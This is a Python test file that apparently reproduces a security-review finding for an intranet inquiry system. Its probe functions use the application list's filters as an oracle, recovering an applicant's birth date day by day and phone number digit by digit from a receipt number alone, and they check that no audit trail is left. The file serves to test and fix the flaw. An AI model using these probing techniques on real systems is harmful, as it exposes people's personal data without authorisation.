"""問い合わせ対応 with a receipt number only: the list's filters as an oracle (issue 25, item 3).

Two attacks from the review, each run as the attacker did: with one receipt number, guess
the birth date one day at a time, and the phone number one digit at a time.
"""

from datetime import date, timedelta

import pytest
from sqlalchemy import select

from intranet.applications.models import Application
from intranet.audit.models import AuditRecord
from tests.factories import make_applications, make_programme

BIRTH = date(1980, 3, 17)
PHONE = "042-555-0137"
RECEIPT = "12345678"


@pytest.fixture
def target(session_factory):
    """The application the attacker knows the receipt number of, among others."""
    programme = make_programme(session_factory)
    make_applications(session_factory, programme, 5, start=20000001)
    application_id = make_applications(session_factory, programme, 1, start=int(RECEIPT))[0]
    with session_factory() as s, s.begin():
        application = s.get(Application, application_id)
        application.birth_date, application.phone = BIRTH, PHONE
    return application_id


def found_one(page) -> bool:
    return "1 件見つかりました" in page.text


def probe_birth_date(app, receipt, first: date, days: int):
    """Each day from ``first`` beside the receipt number; the day that finds it, and the
    number of requests it took (None if the list stopped answering)."""
    for n in range(days):
        day = first + timedelta(days=n)
        page = app.get("/applications", {"receipt": receipt, "birth": day.isoformat()},
                       expect_errors=True)
        if page.status_int != 200:
            return None, n + 1
        if found_one(page):
            return day, n + 1
    return None, days


def probe_phone(app, receipt):
    """The phone number's digits, grown one at a time by "part of the phone number"
    matching in the name box: to the right until no digit follows, then to the left.
    What it learned and how many requests."""
    known, requests = "", 0
    for right in (True, False):
        while True:
            for digit in "0123456789":
                requests += 1
                guess = known + digit if right else digit + known
                page = app.get("/applications", {"receipt": receipt, "name": guess},
                               expect_errors=True)
                if page.status_int == 200 and found_one(page):
                    known = guess
                    break
            else:
                break
    return known, requests


def test_the_birth_date_leaks_from_a_receipt_number(as_role, target, dbsession):
    app = as_role("inquiry")
    day, requests = probe_birth_date(app, RECEIPT, BIRTH - timedelta(days=20), 30)
    assert day == BIRTH and requests == 21
    assert not dbsession.execute(select(AuditRecord).where(
        AuditRecord.actor == "inquiry", AuditRecord.action != "login.success")).first()


def test_the_phone_number_leaks_digit_by_digit(as_role, target, dbsession):
    app = as_role("inquiry")
    known, requests = probe_phone(app, RECEIPT)
    assert known == "0425550137" and requests < 120
    assert not dbsession.execute(select(AuditRecord).where(
        AuditRecord.actor == "inquiry", AuditRecord.action != "login.success")).first()
